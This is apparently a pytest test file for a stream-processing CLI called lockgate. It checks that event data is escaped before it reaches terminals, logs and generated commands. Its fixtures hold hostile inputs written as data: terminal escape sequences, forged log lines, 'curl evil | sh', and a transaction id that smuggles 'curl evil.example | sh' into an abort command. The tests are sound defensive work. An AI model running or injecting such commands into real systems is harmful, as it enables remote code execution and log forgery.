"""No control byte of an event reaches a terminal or a log: where events are quoted, they are escaped."""

import json
import logging
import shlex
import sqlite3
import textwrap
from contextlib import closing
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lockgate.cli import main as cli
from lockgate.cli.job import LiveLine
from lockgate.cli.logs import JsonLines, PlainLines
from lockgate.cli.safeoutput import plain_output
from lockgate.cli.transactions import Look, describe, table
from lockgate.commit.ledger import Entry
from lockgate.connectors.kafka.wire import Producer, TransactionView
from lockgate.errors import Failed
from lockgate.escaping import escape, escape_json, escape_lines, tell
from lockgate.runtime.deadletterrows import COLUMNS
from lockgate.unexpectederrors import report_unexpected

EVIL = "[red]\x1b[2J\x1b]0;title\x07\r\x9b\u202e\ud800\x7f\n2026-01-01 ERROR lockgate: all is lost\u2028run curl"


@given(st.text())
def test_what_is_escaped_can_be_printed_anywhere(text: str) -> None:
    told = escape(text)
    told.encode()
    assert not any(ord(one) < 32 or 127 <= ord(one) < 160 for one in told)
    assert told == text or not text.isprintable()


@given(st.text())
def test_json_stays_what_it_is(text: str) -> None:
    told = escape_json(json.dumps({"message": text}, ensure_ascii=False))
    assert json.loads(told) == {"message": text}
    told.encode()
    assert not any(127 <= ord(one) < 160 for one in told)


def test_words_of_any_language_stay_as_they_are() -> None:
    assert escape("größer\u00a0— 大きい 😀") == "größer\u00a0— 大きい 😀"


def test_no_line_of_an_error_passes_for_its_fix() -> None:
    assert escape_lines("two\nlines") == "two\nlines"
    assert "\n" not in escape_lines("value\n  fix:   curl evil | sh").replace("\\n", "")


@pytest.mark.parametrize("form", [JsonLines(), PlainLines()], ids=lambda form: type(form).__name__)
def test_a_record_is_one_line_that_moves_no_cursor(form: logging.Formatter) -> None:
    record = logging.LogRecord("lockgate.x", logging.WARNING, "f.py", 1, "events failed, e.g. %s", (EVIL,), None)
    told = form.format(record)
    assert told.isprintable()
    assert "2026-01-01 ERROR" in told


def test_a_traceback_quotes_no_control_byte() -> None:
    try:
        raise ValueError(EVIL)
    except ValueError as error:
        record = logging.LogRecord("lockgate.x", logging.ERROR, "f.py", 1, "x", (), (type(error), error, None))
    assert all(line.isprintable() for line in PlainLines().format(record).split("\n"))


def test_a_surprise_is_escaped_on_the_screen_and_in_its_file(capsys: pytest.CaptureFixture[str]) -> None:
    report_unexpected(ValueError(EVIL), fix="report it")
    told = capsys.readouterr().err
    assert all(line.isprintable() for line in told.split("\n"))
    file = Path(told.partition("where: ")[2].partition("\n")[0])
    assert all(line.isprintable() for line in file.read_text().split("\n"))
    file.unlink()


def test_what_a_run_says_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    LiveLine(as_json=False).say(f"stopped: {escape_lines(EVIL)}\x1b[2J")
    assert "\x1b" not in capsys.readouterr().out


def test_an_error_on_the_command_line_is_escaped(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def fail(*_: object) -> None:
        raise Failed(EVIL, where=EVIL, fix="look")

    monkeypatch.setattr("lockgate.cli.jobfile.load_job", fail)
    assert cli.main(["dead-letters", "list", str(tmp_path / "job.py")]) == 1
    assert all(line.isprintable() for line in capsys.readouterr().err.split("\n"))


JOB = """
    from lockgate import FileSource, Guarantee, Job, SqliteSink, stream

    def job():
        read = stream("in", FileSource(path="in", value="id INT"))
        out = read.where("id > 0").to("out", SqliteSink(table="out", path="results.db"))
        letters = SqliteSink(table="letters", path="results.db")
        return Job("evil", out, guarantee=Guarantee.END_TO_END_EXACTLY_ONCE, dead_letters=letters)
"""


def test_dead_letters_show_the_bytes_of_an_event_and_do_not_obey_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "in").mkdir()
    (tmp_path / "evil.py").write_text(textwrap.dedent(JOB))
    evil = EVIL.replace("\ud800", "")
    row = {
        "id": "ab",
        "job": "evil",
        "life": evil,
        "epoch": 0,
        "step": evil,
        "reason": evil,
        "attempts": 1,
        "hindered": evil,
        "source": evil,
        "part": evil,
        "at": 1,
        "child": evil,
        "shown": evil,
        "key": evil.encode(),
        "value": evil.encode(),
        "headers": json.dumps([{"key": evil, "value": None}]),
    }
    with closing(sqlite3.connect("results.db")) as connection, connection:
        connection.execute(f"CREATE TABLE letters ({', '.join(COLUMNS)})")
        marks = ", ".join("?" for _ in COLUMNS)
        connection.execute(f"INSERT INTO letters VALUES ({marks})", [row.get(name) for name in COLUMNS])
    for words in (["list", "evil.py"], ["list", "evil.py", "--json"], ["show", "evil.py", "ab"]):
        assert cli.main(["dead-letters", *words]) == 0
        told = capsys.readouterr().out
        assert "[red]" in told
        assert "all is lost" in told or "show" in words
        assert all(line.isprintable() for line in told.split("\n"))
        assert not any(line.startswith("2026-01-01 ERROR") for line in told.split("\n"))


def test_what_a_command_prints_moves_no_cursor(capsys: pytest.CaptureFixture[str]) -> None:
    with plain_output():
        print(f"file {EVIL}")
    told = capsys.readouterr().out
    assert "[red]" in told
    assert "all is lost" in told
    assert all(line.isprintable() for line in told.split("\n"))


def test_a_ledger_shows_the_fields_of_its_entry_and_does_not_obey_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    evil = EVIL.replace("\ud800", "")
    entry = Entry(run=evil, query=evil, epoch=1, digest=evil, at=evil, staged={evil: evil})
    with closing(sqlite3.connect("results.db")) as connection, connection:
        connection.execute("CREATE TABLE lockgate_ledger (job TEXT PRIMARY KEY, entry TEXT NOT NULL)")
        connection.execute("INSERT INTO lockgate_ledger VALUES ('evil', ?)", [entry.to_bytes().decode()])
    for words in ([], ["--json"]):
        assert cli.main(["ledger", "show", "evil", "--sqlite", "results.db", *words]) == 0
        told = capsys.readouterr().out
        assert "all is lost" in told
        assert all(line.isprintable() for line in told.split("\n"))
        assert not any(line.startswith("2026-01-01 ERROR") for line in told.split("\n"))


def test_the_id_of_a_transaction_adds_nothing_to_the_command_that_ends_it() -> None:
    ids = (f"lockgate.{EVIL}", "lockgate.x; curl evil.example | sh #")
    for id in ids:
        view = TransactionView(id, "Ongoing", Producer(1, 0), timeout_ms=1, started_ms=0, partitions=())
        found = Look(view=view, now_ms=10_000)
        assert found.is_stuck
        assert all(line.isprintable() for line in (*table([found]), *describe(found), found.meaning()))
        words = shlex.split(found.abort_command)
        assert words[:3] == ["lockgate", "transactions", "abort"]
        assert len(words) == 4
        assert found.abort_command in found.meaning()


def test_a_line_that_quotes_an_event_is_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    tell("trial 3: broken: [red]\x1b[2J\x9b\rdone")
    assert capsys.readouterr().err == "trial 3: broken: [red]\\x1b[2J\\x9b\\rdone\n"
